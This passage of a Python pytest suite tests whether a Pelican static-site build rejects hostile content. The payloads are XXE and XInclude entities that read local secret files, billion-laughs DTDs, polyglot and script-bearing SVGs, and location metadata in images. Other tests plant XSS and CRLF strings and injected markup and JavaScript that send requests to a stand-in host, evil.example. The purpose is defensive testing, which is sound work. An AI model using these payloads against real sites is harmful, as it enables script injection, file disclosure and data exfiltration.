    '<?xml-stylesheet href="x.css"?>': "uses an external stylesheet",
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/proc/self/environ"/>': SHOWS,
}
WHOLE_DRAWINGS = {
    "xxe": ('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///@BASE@/secret.txt">]>', "&x;", NO_SVG),
    "dtd": ('<!DOCTYPE svg [<!ENTITY % p SYSTEM "file:///@BASE@/secret.txt"> %p;]>', "", ""),
    "entity": ('<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>', "&x;", RUNS),
    "address": ('<!DOCTYPE svg [<!ENTITY x "javascript:">]>', '<a href="&x;alert(1)"/>', RUNS),
    "default": ('<!DOCTYPE svg [<!ATTLIST rect onload CDATA "alert(1)">]>', "<rect/>", RUNS),
    "laughs": (f'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">{LAUGHS}]>', "<text>&j;</text>", NO_SVG),
    "style": ('<?xml-stylesheet href="x.css"?>', "", "uses an external stylesheet"),
    "deep": ("", "<g>" * 20_000 + "</g>" * 20_000, "is nested more than 150 levels deep"),
}


def drawings() -> Iterator[tuple[str, Hazard]]:
    """Yield drawings, shown by a page, alone in extra/, or as the site's icon."""
    for n, (inner, message) in enumerate(DRAWINGS.items()):
        data = SVG.format(inner).encode()
        yield f"svg {n} {inner[:12]}", Hazard(shown("h.svg", data), message)
    for name, (before, inner, message) in WHOLE_DRAWINGS.items():
        yield f"svg {name}", Hazard({"images/h.svg": before + SVG.format(inner)}, message)
    active = SVG.format(next(iter(DRAWINGS))).encode()
    for name in ("extra/h.svg", "extra/H.SVG", "papers/h.svg", "extra/favicon.svg"):
        files = {name: active} | (paper("Slides: h.svg") if name.startswith("papers") else {})
        yield f"svg {name}", Hazard(files, "contains <script>", name == "extra/favicon.svg")
    picture_of_secret = SVG.format('<image href="@BASE@/secret.png" width="40" height="30"/>')
    yield "svg icon", Hazard({"extra/favicon.svg": picture_of_secret}, SHOWS)
    yield "svg utf-16", Hazard({"images/h.svg": active.decode().encode("utf-16")}, RUNS)
    yield "svg html", Hazard({"images/h.svg": "<html><script>alert(1)</script></html>"}, NO_SVG)
    # A picture whose bytes are something else as well, or are not what its name says.
    page = b"<html><script>alert(1)</script></html>"
    yield "polyglot html", Hazard(shown("h.png", page), "is not an image")
    yield "polyglot svg", Hazard(shown("h.png", active), "is not an image")
    yield "polyglot png", Hazard({"images/h.svg": portrait()}, NO_SVG)
    yield "polyglot pdf", Hazard(shown("h.gif", b"%PDF-1.4 GIF89a"), "is not an image")
    yield "polyglot js", Hazard(shown("h.gif", b"GIF89a/*" + page + b"*/=1;alert(1)"))
    yield "polyglot behind", Hazard(shown("h.png", portrait() + page), None)


def places() -> Iterator[tuple[str, Hazard]]:
    """Yield pictures and films that tell a place, and with it the secret."""
    exif = Image.Exif()
    exif[0x010F] = exif[0x9286] = SECRET
    exif.get_ifd(0x8825)[1], exif.get_ifd(0x8825)[2] = "N", (48.0, 8.0, 30.0)
    for kind, end in (("JPEG", "jpg"), ("PNG", "PNG"), ("WEBP", "webp"), ("AVIF", "avif")):
        data = picture(kind, 300, 200, exif=exif)
        yield f"exif {kind}", Hazard(shown(f"h.{end}", data), None)
    jpeg = picture("JPEG", 300, 200, exif=exif)
    yield "exif figure", Hazard(figure("h.jpg", jpeg), None)
    yield "exif extra", Hazard({"extra/h.jpg": jpeg}, None)
    # As it is named by phones and browsers, and where no page shows it.
    for name in ("images/h.jfif", "images/h.jpe", "images/h.mpo", "images/photo", "extra/h.apng"):
        yield f"exif {name}", Hazard({name: jpeg}, "")
    heic = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + exif.tobytes()
    yield "exif heic", Hazard({"images/h.heic": heic}, "")
    for kind in ("JPEG", "WEBP", "AVIF", "GIF"):
        data = picture(kind, 300, 200, xmp=XMP.encode())
        yield f"xmp {kind}", Hazard(shown(f"h.{kind.lower()[-4:]}", data), None)
    hexed = f"\nxmp\n{len(XMP):8}\n{XMP.encode().hex()}\n"
    for n, (name, text) in enumerate((
        ("XML:com.adobe.xmp", XMP), ("Raw profile type xmp", hexed),
        # As ImageMagick writes it.
        ("exif:GPSLatitude", f"48/1, 8/1 {SECRET}"), ("exif:GPSInfo", f"594 {SECRET}"),
    )):  # fmt: skip
        for packed in (False, True):
            chunks = PngImagePlugin.PngInfo()
            chunks.add_itxt(name, text, zip=packed) if n == 0 else chunks.add_text(
                name, text, packed
            )
            data = picture("PNG", 300, 200, pnginfo=chunks)
            yield f"png {name} {packed}", Hazard(shown("h.png", data), None)
    atom = (
        b"\0\0\0\x20ftypisom"
        + bytes(20)
        + b"\0\0\0\x60udta\0\0\0\x50%s\0\x32\x15\xc7+48.85+002.29/"
    )
    message = "contains the location where it was recorded"
    for end, mark in (
        ("mp4", b"\xa9xyz"), ("MOV", b"com.apple.quicktime.location.ISO6709"), ("m4v", b"\0loci"),
        ("3gp", b"\0loci"), ("m4a", b"\xa9xyz"),
    ):  # fmt: skip
        yield f"film {end}", Hazard({f"images/h.{end}": atom % mark + SECRET.encode()}, message)
    webm = b"\x1a\x45\xdf\xa3\x01webm\x45\xa3LOCATION\x44\x87+48.85+002.29/" + SECRET.encode()
    yield "film webm", Hazard({"images/h.webm": webm}, message)
    film = atom % b"\xa9xyz" + SECRET.encode()
    yield "film paper", Hazard(paper("Video: h.mp4") | {"papers/h.mp4": film}, message)
    yield "film extra", Hazard({"extra/h.mp4": film}, message)


HAZARDS: dict[str, Hazard] = dict(
    item
    for group in (addresses, links, headers, entries, documents, markup, names, drawings, places)
    for item in group()
)


def renamed(text: str, number: int) -> str:
    """Add a number to the files and entries of a hazard, which are all named h."""
    return re.sub(r"(?<![\w.@])h(?=\.\w{2,4}\b)|(?<=@misc{)h(?=,)", f"h{number}", text)


def combine_hazards() -> dict[str, dict[str, str | bytes | Link]]:
    """Return the files of all hazards that can be combined in one site, by the hazard's name."""
    site, paths = {}, set()
    for number, (name, hazard) in enumerate(HAZARDS.items()):
        files = {
            renamed(file, number): renamed(data, number) if isinstance(data, str) else data
            for file, data in hazard.files.items()
        }
        if not hazard.alone and paths.isdisjoint(files):
            site[name] = files
            paths |= files.keys()
    return site


def merge_files(*hazards: dict[str, str | bytes | Link]) -> dict[str, str | bytes | Link]:
    """Return the files of several hazards."""
    return {name: data for files in hazards for name, data in files.items()}


TOGETHER = combine_hazards()
# Each has its own site: a share of those that cannot be combined, and some of those that can.
TRIED = share(
    [(name, conf) for name in HAZARDS if name not in TOGETHER for conf in CONFS], one_in=10
)
TRIED += share([(name, conf) for name in TOGETHER for conf in CONFS], one_in=128)


# --- The builds -------------------------------------------------------------------


# The project that is built first, in the folder of all.
FIRST = "first/above/project"


class Outcome(NamedTuple):
    """The result of a build: `code` is None if it did not end, 2 for a traceback."""

    code: int | None
    printed: str
    changed: list[str]
    leaked: list[str]
    written: list[str]


def run_pelican(project: Path, conf: str) -> int:
    """Build a site as `pelican` does without --fatal; return 1 for problems, 2 for a traceback."""
    from papers.site import search_index
    from pelican import Pelican, signals
    from pelican.settings import read_settings

    code = 0
    try:
        os.chdir(project)
        address = {"SITEURL": LOCAL} if conf == CONFS[1] else {}
        settings = read_settings(conf, override=address)
        site = Pelican(settings)
        if not address:
            # It takes half of the time, and the published site has the same index.
            signals.page_writer_finalized.disconnect(search_index.write_search_index)
        site.run()
    except SystemExit as error:
        print(error.code, file=sys.stderr)
        code = 1
    except BaseException:
        traceback.print_exc()
        code = 2
    sys.stdout.flush()
    sys.stderr.flush()
    return code


def limited(work, log: Path, patience: int = PATIENCE) -> int | None:
    """Call a function in a child process that prints to a file; return its exit code.

    It is None if the child takes too long or too much memory, or crashes.
    """
    import resource

    child = os.fork()
    if child == 0:
        file = os.open(log, os.O_CREAT | os.O_WRONLY)
        os.dup2(file, 1)
        os.dup2(file, 2)
        resource.setrlimit(resource.RLIMIT_AS, (2**32, 2**32))
        resource.setrlimit(resource.RLIMIT_CPU, (patience, patience))
        code = 2
        try:
            code = work()
        finally:
            os._exit(code)
    deadline = time.monotonic() + BUSY * patience
    while time.monotonic() < deadline:
        process, status = os.waitpid(child, os.WNOHANG)
        if process:
            code = os.waitstatus_to_exitcode(status)
            return code if code >= 0 else None
        time.sleep(0.002)
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    return None


def link_templates(cache: Path, other: Path) -> None:
    """Let another cache have the compiled templates of a cache, most of a small build's work."""
    for templates in cache.glob("templates-*"):
        shutil.copytree(templates, other / templates.name, copy_function=os.link)


def build_hazard(folder: Path, job: tuple[int, str, str]) -> tuple[str, str, Outcome]:
    """Build the site of one hazard, and look for its effects."""
    number, name, conf = job
    base = folder / f"{number}-{conf[:3]}"
    project = plant(base, HAZARDS[name].files)
    output, cache = project / "output", project / "cache"
    link_templates(folder / FIRST / "cache", cache)
    before = tree(base, output, cache)
    log = folder / f"{number}-{conf[:3]}.log"
    code = limited(partial(run_pelican, project, conf), log)
    after = tree(base, output, cache)
    changed = sorted(name for name in before | after if before.get(name) != after.get(name))
    secrets = [SECRET] + [DRAFTED] * (conf == CONFS[1])
    written = [] if not output.is_dir() else sorted(tree(output))
    leaked = leaks(output, secrets) + leaks(cache, secrets)
    shutil.rmtree(base)
    printed = log.read_text(encoding="utf-8", errors="replace")
    return name, conf, Outcome(code, printed, changed, leaked, written)


def drive(folder: Path) -> None:
    """Build sites of one hazard; read names and settings from stdin, and write the outcomes."""
    from pelican.log import init

    pairs = json.load(sys.stdin)
    init()
    project = plant(folder / "first", {})
    for conf in CONFS:
        # Modules and templates that are loaded now are not loaded again for each site.
        run_pelican(project, conf)
    jobs = [(n, name, conf) for n, (name, conf) in enumerate(pairs)]
    with multiprocessing.get_context("fork").Pool(os.cpu_count()) as pool:
        results = pool.map(partial(build_hazard, folder), jobs, chunksize=1)
    (folder / "outcomes.json").write_text(json.dumps(results), encoding="utf-8")


@pytest.fixture(scope="module")
def outcomes(request, tmp_path_factory) -> dict[tuple[str, str], Outcome]:
    """The outcomes of the sites of the chosen hazards, by name and settings."""
    folder = tmp_path_factory.mktemp("attack")
    callspecs = [getattr(item, "callspec", None) for item in request.session.items]
    pairs = [
        (spec.params["hazard"], spec.params["conf"])
        for spec in callspecs
        if spec and "hazard" in spec.params
    ]
    done = subprocess.run(
        [sys.executable, __file__, folder],
        input=json.dumps(pairs),
        env=os.environ | {
            "PLANTED": SECRET, "COLUMNS": "200", "PYTHONUTF8": "1",
            "PYTHONPATH": os.pathsep.join([str(ROOT / "plugins"), str(ROOT / "tests")]),
        },
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        encoding="utf-8",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    results = json.loads((folder / "outcomes.json").read_text(encoding="utf-8"))
    return {(name, conf): Outcome(*outcome) for name, conf, outcome in results}


@POSIX
@pytest.mark.parametrize(("hazard", "conf"), TRIED)
def test_one_hazard(outcomes, hazard, conf):
    """One hostile file publishes a secret, or writes outside the output folder."""
    code, printed, changed, leaked, written = outcomes[hazard, conf]
    message = HAZARDS[hazard].message
    message = "" if HAZARDS[hazard].public and conf == CONFS[0] else message
    assert leaked == [] and changed == []
    assert code is not None, f"it does not end, or crashes: {printed[-900:]}"
    assert "Traceback" not in printed and code in (0, 1), printed[-900:]
    assert not holds(printed.encode(), SECRET)
    assert (code, written == []) in [(0, False), (1, True)]
    if message is None:
        assert code == 0, printed
    elif message:
        assert code == 1 and message in printed, printed
    elif code:
        assert any(f"content/{name}" in printed for name in HAZARDS[hazard].files), printed


@POSIX
@pytest.mark.parametrize("conf", CONFS)
@pytest.mark.parametrize("fatal", [[], ["--fatal", "warnings"]], ids=["", "fatal"])
def test_all_hazards(tmp_path, conf, fatal):
    """A problem hides others until it is fixed, or a refused site is partly written."""
    base = tmp_path / "all"
    project = plant(base, merge_files(*TOGETHER.values()))
    output, cache = project / "output", project / "cache"
    before = tree(base, cache)
    site = build(
        project / "content", output, str(project / conf), arguments=tuple(fatal), PLANTED=SECRET
    )
    assert site.code == 1
    after = tree(base, cache)
    after.pop("above/project/output", None)
    assert after == before and leaks(cache, [SECRET]) == []
    assert not holds(site.printed.encode(), SECRET)
    if fatal:
        return  # Pelican's own first warning has ended it.
    assert "Traceback" not in site.printed
    printed = site.printed.splitlines()
    missing = []
    for name, files in TOGETHER.items():
        message, public = HAZARDS[name].message, HAZARDS[name].public and conf == CONFS[0]
        part = "" if not message or message.startswith("content/") else message
        reported = any(part in line and any(file in line for file in files) for line in printed)
        if message and not public and not reported:
            missing.append(name)
    assert missing == []
    build_accepted(tmp_path / "accepted", conf, printed)


def build_accepted(base: Path, conf: str, printed: list[str]) -> None:
    """Build a site of the hazards in which no problem was printed, and look for secrets in it."""
    refused = [line for line in printed if "[notice]" not in line]
    accepted = {
        name: files
        for name, files in TOGETHER.items()
        if not any(file in line for file in files for line in refused)
    }
    harmless = {name for name in TOGETHER if HAZARDS[name].message is None}
    assert harmless <= accepted.keys() and len(accepted) > len(harmless) + 20
    project = plant(base, merge_files(*accepted.values()))
    output, cache = project / "output", project / "cache"
    before = tree(base, output, cache)
    site = build(project / "content", output, str(project / conf), arguments=(), PLANTED=SECRET)
    assert site.code == 0 and "Traceback" not in site.printed, site.printed
    assert tree(base, output, cache) == before
    secrets = [SECRET] + [DRAFTED] * (conf == CONFS[1])
    assert leaks(output, secrets) + leaks(cache, secrets) == []
    assert not holds(site.printed.encode(), SECRET)


@POSIX
def test_what_is_wrong_is_left_out(tmp_path):
    """`pelican -r`, which continues after problems, publishes what other builds refuse."""
    project = plant(tmp_path, merge_files(*TOGETHER.values()))
    with (project / CONFS[0]).open("a", encoding="utf-8") as settings:
        settings.write(ONE_RELOAD)
    output, cache = project / "output", project / "cache"
    before = tree(tmp_path, output, cache)
    site = build(project / "content", output, project / CONFS[0], arguments=("-r",), PLANTED=SECRET)
    assert "Done: Processed" in site.printed and "the files above are left out" in site.printed
    assert tree(tmp_path, output, cache) == before
    assert leaks(output, [SECRET]) == [] and not holds(site.printed.encode(), SECRET)


@POSIX
def test_commands(tmp_path):
    """`check` writes a file, or `build` and `publish` leave files of a refused site."""
    project = plant(tmp_path, merge_files(*TOGETHER.values()))
    write(project, {"output/index.html": "the last good page"})
    before = tree(tmp_path, project / "cache")
    for command in ("check", "build", "publish"):
        conf = CONFS[command == "publish"]
        done = run_papers(command, "--settings", conf, cwd=project, PLANTED=SECRET)
        printed = done.stdout + done.stderr
        assert done.returncode == 1 and "Traceback" not in printed, printed[-2000:]
        assert not holds(printed.encode(), SECRET)
        assert tree(tmp_path, project / "cache") == before, command


# --- Texts that would be code -----------------------------------------------------

MARKS = [
    '"><script>alert(1)</script>', "</script><script>alert(2)</script>", "]]>", "--><!--",
    "' onload=alert(3) x='", "{{ 7*7 }}", "{% raw %}", "} @misc{evil, title={",
    r"\input{/etc/passwd}", "ER  - TY  - JOUR", "javascript:alert(4)", "&lt;b&gt;",
    "</title></textarea>", "](javascript:alert(5))", "%0d%0aSet-Cookie: x", "${6*7}", "```", "<b>",
    "`c`", "#{x}", "&", "\\", "<?php ?>", "<%= 8*8 %>",
]  # fmt: skip
MARKED = " ".join(MARKS)
# What ends a list's item, a label or a brace is not a part of one.
ITEMS = [mark for mark in MARKS if not set(mark) & set(";|") and re.search(r"\w", mark)]
NAME = re.sub(r"[;,*#{}]", "", MARKED)
TEXTS = (
    "annotation venue venue_short award presentation volume issue pages number publisher address "
    "series edition genre isbn issn note image_caption image_alt license title_zh"
).split()
FIELDS = (
    "title booktitle publisher note abstract series edition address volume number pages isbn issn "
    "abbr award annotation license organization howpublished"
).split()
IN_FIELD = re.sub("[{}]", "", MARKED.replace(r"\input{", r"\input ")).replace(" \\ ", " ")
YAML = r"""---
title: "Yaml\r\nSet-Cookie: x\n\n# Evil @MARKED@"
authors: [Ada Lovelace, "Alan\r\nSet-Cookie: y"]
date: 2024
venue: "Venue\r\nER  - \r\nTY  - JOUR"
note: "Note\n\n# Evil\n```\n\n@misc{evil,}\r\nDOI: 10.1/evil"
award: "Award\n## Evil"
tags: ["Tag\nevil: x"]
links: [{label: "Label\r\nx", url: "https://x.example/a\"b<c>"}]
---

An abstract.

\# Evil

\```

\- [evil]\(javascript:alert(6))

@misc{evil,}
""".replace("@MARKED@", json.dumps(MARKED)[1:-1])
ELEMENTS = set(
    "a article aside body button cite code dd details div dl dt em figcaption figure footer form h1 h2 h3 head header html img input "
    "label li link main meta nav noscript ol p path picture pre script section source span strong "
    "summary sup svg time title ul".split()
)
ADDRESSES = set("href src action formaction data poster srcset xlink:href background cite".split())


def marked_content() -> dict[str, str | bytes]:
    """Return a site whose every text holds what would be code."""
    headers = {name.capitalize(): f"<{name}> {MARKED}" for name in TEXTS}
    headers |= {
        "Title": f"Plain {MARKED}", "Authors": f"Ada Lovelace; {NAME}", "Date": "2026",
        "Type": "report", "Tags": "; ".join(ITEMS), "Image": "images/\"' onload='x.png",
        "Aliases": "/old{{x}}/, /old'b/, /old&lt/",
        "Links": "\n    ".join(
            f"{mark.replace('|', '')} | https://x.example/?q={''.join(mark.split())}"
            for mark in MARKS
        ),
    }  # fmt: skip
    fields = "".join(f"  {name} = {{{name} {IN_FIELD}}},\n" for name in FIELDS)
    return {
        "home.md": f"Title: Home {MARKED}\nRole: Role {MARKED}\n\n## News\n\n[NEWS]\n\n"
        f"## Papers\n\n[PAPERS]\n\nBye.\n",
        "papers/a.md": "".join(f"{key}: {text}\n" for key, text in headers.items()) + "\nAn abstract.\n",
        "papers/b.bib": f"@inproceedings{{bb,\n  author = {{A B and {{{NAME}}}}},\n  year = 2025,\n"
        f"{fields}}}\n",
        "papers/y.md": YAML,
        "news/n.md": f"Title: Post {MARKED}\nDate: 2026-02\nPapers: a\nTags: {'; '.join(ITEMS)}\n\n"
        "Words, as in [@a] and [@bb].\n\n![\"><script>alert(7)</script>]({static}/images/a.png "
        "\"' onload=alert(8) x='\")\n",
        "pages/p.md": f"Title: Page {MARKED}\n\nWords.\n",
        "people.yml": f"Ada Lovelace:\n  aliases: [{json.dumps(MARKED)}]\n"
        "Alan Turing:\n  address: https://x.example/\"onload=alert(9)\n",
        "references.bib": "@misc{r, title={Cited}, author={A B}, year=2020}\n",
        "images/a.png": portrait(),
        "images/\"' onload='x.png": portrait(),
        "extra/favicon.svg": SVG.format('<circle cx="20" cy="15" r="9"/>'),
    }  # fmt: skip


@pytest.fixture(scope="module", params=CONFS)
def marked(request, tmp_path_factory) -> Site:
    """A site whose texts would be code, in the preview and as it is published."""
    folder = tmp_path_factory.mktemp("marked")
    settings = SETTINGS | {
        "SITENAME": f"Site {MARKED}",
        "OWNER": ["Ada Lovelace", MARKED],
        "SOCIAL": [[mark, f"https://x.example/?q={''.join(mark.split())}"] for mark in MARKS],
        "MENUITEMS": [[mark, "news/"] for mark in MARKS],
        "CACHE_PATH": str(folder / "cache"),
    }
    files = marked_content()
    if os.name == "nt":  # No name may hold a quotation mark there.
        files = {name.replace('"', ""): data for name, data in files.items()}
    content = write(folder / "content", files)
    site = build(content, folder / "output", request.param, settings, SITEURL=LOCAL)
    assert site.code == 0, site.printed
    return site


# Feeds and the like, which the preview has not.
PUBLISHED = pytest.mark.parametrize("marked", CONFS[1:], indirect=True)


def graphs(page: BeautifulSoup) -> list[dict]:
    """Return what a page tells search engines; refuse other scripts than the theme's."""
    items = []
    for script in page("script"):
        if script.get("type") == "application/ld+json":
            items.append(json.loads(script.string))
        else:
            source = unquote(script["src"]).rpartition("theme/js/")[2]
            assert source in ("search.js", "site.js", "filter.js") and not script.string, script
    return items


def inert(page: BeautifulSoup) -> None:
    """Refuse a page in which a text has become markup, a script or an address that runs one."""
    graphs(page)
    for element in page(True):
        assert element.name in ELEMENTS, element
        for name, value in element.attrs.items():
            assert not name.startswith("on"), element
            if name in ADDRESSES:
                plain = re.sub(r"[\x00-\x20]", "", value).lower()
                assert not re.match("javascript:|data:(?!,)|vbscript:", plain), element
        if element.name == "meta" and "http-equiv" in element.attrs:
            assert element["http-equiv"] in ("Content-Security-Policy", "refresh")


def test_texts_are_text_in_pages(marked):
    """A title, name, label, tag, venue or alternative text is markup or a script in a page."""
    for path in marked.pages():
        page = marked.page(path, strict=path.startswith(("papers/", "index")))
        inert(page)
        assert not {"42", "49", "64"} & set(re.findall(r"\d+", page.get_text())), path
    page = marked.page("papers/a/")
    straight = str.maketrans({"“": '"', "”": '"', "‘": "'", "’": "'", "–": "--"})
    title = words(page.h1).replace("“`", "```").translate(straight)
    assert title == " ".join(f"Plain {MARKED}".split())
    assert "<b>" in page.select_one("meta[name=citation_title]", content=True)["content"]
    assert NAME.split()[0] in page.select_one(".byline").get_text()
    labels = [" ".join(link.get_text().split()) for link in page.select(".pills a")]
    # The theme makes the first letter a capital.
    marks = [" ".join(mark.split()) for mark in MARKS]
    assert labels[: len(marks)] == [mark[:1].upper() + mark[1:] for mark in marks]
    post = marked.page("news/n/").select_one("article img")
    assert post["alt"] == '"><script>alert(7)</script>'
    menu = [link.get_text() for link in marked.page().select("nav li a")]
    assert menu[: len(MARKS)] == MARKS


def test_texts_are_text_in_data(marked):
    """A title ends the script in which it stands, or is another text for search engines."""
    (graph,) = graphs(marked.page("papers/a/"))
    assert any(thing.get("headline", "").startswith("Plain ") for thing in graph["@graph"])
    assert graph["@graph"][0]["name"] == f"Site {MARKED}"
    assert "<" not in re.sub(r"</?script[^>]*>", "", str(marked.page("papers/a/").script))
    manifest = json.loads(marked.text("site.webmanifest"))
    assert manifest["name"] == f"Site {MARKED}"
    index = [path for path in marked.files() if path.endswith(".pf_fragment")]
    for path in index:
        data = gzip.decompress(marked.files()[path])
        fragment = json.loads(data.partition(b"{")[1] + data.partition(b"{")[2])
        assert fragment["meta"].keys() <= {"title", "kind", "about", "names", "paper"}
    assert index


@PUBLISHED
def test_texts_are_text_in_feeds(marked):
    """A feed or the sitemap is no XML or JSON, or has entries and links that a text brought in."""
    for name, count in (("news", 1), ("papers", 3)):
        data = marked.files()[f"feeds/{name}.atom.xml"]
        ElementTree.fromstring(data)
        feed = feedparser.parse(data)
        assert not feed.bozo and len(feed.entries) == count
        links = [link["href"] for entry in feed.entries for link in entry.links]
        assert all(link.startswith(f"{LOCAL}/") for link in links)
    feed = json.loads(marked.text("feeds/news.json"))
    assert feed["title"] == f"Site {MARKED}: News" and len(feed["items"]) == 1
    assert {mark for mark in ITEMS if "  " not in mark} <= set(feed["items"][0]["tags"])
    root = ElementTree.fromstring(marked.files()["sitemap.xml"])
    places = [node.text for node in root.iter() if node.tag.endswith("}loc")]
    assert all(address.startswith(f"{LOCAL}/") and "\n" not in address for address in places)


def test_texts_are_text_in_citations(marked):
    """A title ends an entry and begins another, or runs a command where it is compiled."""
    keys = ["a", "bb", "y"]
    text = marked.text("papers.bib")
    assert sorted(parse_string(text, "bibtex").entries) == keys
    library = bibtexparser.parse_string(text)
    assert sorted(entry.key for entry in library.entries) == keys
    assert len(library.blocks) == 3 and not library.failed_blocks
    assert not re.search(r"(?<!textbackslash)\\(?:input|include|write|def|catcode)\b", text)
    records = rispy.loads(marked.files()["papers.ris"].decode())
    assert len(records) == 3 and [r["type_of_reference"] for r in records].count("RPRT") == 1
    items = json.loads(marked.text("papers.json"))
    assert sorted(item["id"] for item in items) == keys
    first = next(item for item in items if item["id"] == "a")
    assert first["title"].replace("–", "--") == " ".join(f"Plain {MARKED}".split())
    noted = next(item for item in items if item["id"] == "y")["note"]
    assert not re.search("^DOI:", noted, re.MULTILINE), "Zotero reads such a line as a field"


@PUBLISHED
def test_texts_are_text_in_plain_files(marked):
    """A text begins a line, and so a heading, a list or code, in llms.txt or a paper as text."""
    headings = re.findall("^#.*", marked.text("llms.txt"), re.MULTILINE)
    assert [words[:8] for words in headings] == ['# Site "', "## Publi", "## News"]
    items = re.findall("^- (.{8})", marked.text("llms.txt"), re.MULTILINE)
    assert items == ["[Plain “", "[title “", "[Yaml Se", "2026-02:"]
    assert "[PAPERS]" not in marked.text("llms.txt")
    text = marked.text("papers/y/index.md")
    headings = re.findall("^#.*", text, re.MULTILINE)
    assert [words[:8] for words in headings] == ["# Yaml S", "## Abstra"[:8], "## BibTe"]
    assert len(re.findall("^`{3,}", text, re.MULTILINE)) == 2
    assert re.findall("^- (?!Authors|Published|Award|Page|Label).*", text, re.MULTILINE) == []
    robots = marked.text("robots.txt")
    assert robots == f"User-agent: *\nAllow: /\n\nSitemap: {LOCAL}/sitemap.xml\n"
    for path in ("old{{x}}", "old'b", "old&lt"):
        page = marked.page(f"{path}/index.html")
        assert page.select_one("meta[http-equiv=refresh]")["content"] == f"0; url={LOCAL}/papers/a/"
        assert [link["href"] for link in page("a")] == [f"{LOCAL}/papers/a/"]


def test_script_in_a_summary(make):
    """A summary, which is printed as HTML, brings in what a text may not."""
    markup = '<script>alert(1)</script> <a href="javascript:alert(2)" onclick="alert(3)">x</a>'
    for name, text in {
        "news/h.md": f"Title: H\nDate: 2026\nSummary: {markup}\n\nx\n",
        "papers/h.md": PAPER.replace("\n\n", f"\nTldr: {markup}\n\n", 1),
    }.items():
        site = make({name: text}, check=False)
        assert site.code == 1 and f"content/{name}" in site.printed


# --- The policy of pages ------------------------------------------------------------

EVIL, SOCKET = "https://evil.example", "wss://evil.example"
# Nobody asks for a manifest where nothing is installed, or for the other size of a picture, and
# of a frame only the host is reported.
UNTOLD = {f"{EVIL}/{name}" for name in ("manifest.json", "picture2.png", "frame")}
# What a post that got around all checks would hold; each sets a mark, or asks another host.
INJECTED = {
    "script": "<script>window.evil = 'script'</script>",
    "module": "<script type=module>window.evil = 'module'</script>",
    "data": "<script src=\"data:text/javascript,window.evil='data'\"></script>",
    "error": "<img src=/none.png onerror=\"window.evil = 'error'\">",
    "load": "<svg onload=\"window.evil = 'load'\"></svg>",
    "toggle": "<details open ontoggle=\"window.evil = 'toggle'\"><summary>x</summary></details>",
    "focus": "<input autofocus onfocus=\"window.evil = 'focus'\">",
    "link": "<a id=link href=\"javascript:window.evil = 'link'\">x</a>",
    "form": "<form action=\"javascript:window.evil = 'form'\"><button id=form>x</button></form>",
    "srcdoc": '<iframe srcdoc="<script>parent.evil = 1</script>"></iframe>',
    "frame": f"<iframe src={EVIL}/frame></iframe>",
    "object": f"<object data={EVIL}/object></object><embed src={EVIL}/embed>",
    "picture": f'<img src={EVIL}/picture.png srcset="{EVIL}/picture2.png 2x">',
    "film": f"<video src={EVIL}/film.mp4 poster={EVIL}/poster.png autoplay></video>",
    "sound": f"<audio src={EVIL}/sound.mp3 autoplay></audio>",
    "foreign": f"<script src={EVIL}/foreign.js></script>",
    "style": f"<link rel=stylesheet href={EVIL}/style.css>",
    "import": f"<style>@import '{EVIL}/import.css'; p {{ background: url({EVIL}/back.png) }}</style>",
    "font": f"<style>@font-face {{ font-family: x; src: url({EVIL}/font.woff2) }} * {{ font-family: x }}"
    "</style>",
    "manifest": f"<link rel=manifest href={EVIL}/manifest.json>",
    "prefetch": f"<link rel=prefetch href={EVIL}/prefetch>",
    "preload": f"<link rel=preload as=image href={EVIL}/preload.png>",
    "modulepreload": f"<link rel=modulepreload href={EVIL}/preload.js>",
    "base": f"<base href={EVIL}/><img src=based.png>",
}  # fmt: skip
ACTS = {
    "fetch": f"fetch('{EVIL}/fetch').catch(() => 0)",
    "beacon": f"navigator.sendBeacon('{EVIL}/beacon', 'x')",
    "socket": f"void new WebSocket('{SOCKET}/socket')",
    "events": f"void new EventSource('{EVIL}/events')",
    "image": f"void (new Image().src = '{EVIL}/image.png')",
    "ping": f"(() => {{ const a = document.createElement('a'); a.href = '#x'; a.ping = '{EVIL}/ping';"
    "document.body.append(a); a.click(); })()",
    "eval": "(() => { try { eval('window.evil = 1') } catch {} })()",
    "timer": "(() => { try { setTimeout('window.evil = 2') } catch {} })()",
    "function": "(() => { try { Function('window.evil = 3')() } catch {} })()",
    "attribute": "document.body.setAttribute('onclick', 'window.evil = 4') || document.body.click()",
    "markup": "void (document.querySelector('main').innerHTML = '<img src=x onerror=\"evil = 5\">')",
    "inserted": "(() => { const s = document.createElement('script'); s.text = 'window.evil = 6';"
    "document.body.append(s); })()",
}  # fmt: skip


def test_policy_comes_first(sample, preview):
    """A page has no policy, or an element before it, which the policy does not cover."""
    for site in (sample, preview):
        for path in site.pages():
            head = site.text(path).partition("<head>")[2].lstrip()
            first = '<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="'
            assert head.startswith(first), path
            policy = head.removeprefix(first).partition('">')[0]
            rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
            assert rules["default-src"] == "'none'" and rules["base-uri"] == "'none'"
            assert "unsafe" not in rules["script-src"].replace("wasm-unsafe-eval", "")
            assert not any(re.search(r"\*|https?:|//", rule) for rule in rules.values())


def test_policy_of_a_redirect(make):
    """The page of an old address has no policy."""
    site = make({"news/n.md": NEWS.replace("\n\n", "\nAliases: /old/\n\n")}, SITEURL=LOCAL)
    assert '<meta charset="utf-8"><meta http-equiv="Content-Security-Policy"' in site.text("old/")


@pytest.fixture(scope="module")
def copied(sample, tmp_path_factory) -> Site:
    """The sample, to write into."""
    output = tmp_path_factory.mktemp("copied") / "output"
    shutil.copytree(sample.output, output)
    return Site(output, 0, "")


def inject(site: Site, markup: str) -> None:
    """Write markup into a post that was built, as one who got around all checks."""
    text = site.text("news/2026-01-iclr/")
    path = site.output / "news" / "injected" / "index.html"
    path.parent.mkdir(exist_ok=True)
    text = text.replace("</article>", f"{markup}</article>", 1)
    assert markup in text
    path.write_text(text, encoding="utf-8")


def test_policy_stops_what_is_injected(browser, copied):
    """A script, form or image of another host in a text runs, is sent, or is loaded."""
    markup = "".join(INJECTED.values())
    inject(copied, markup)
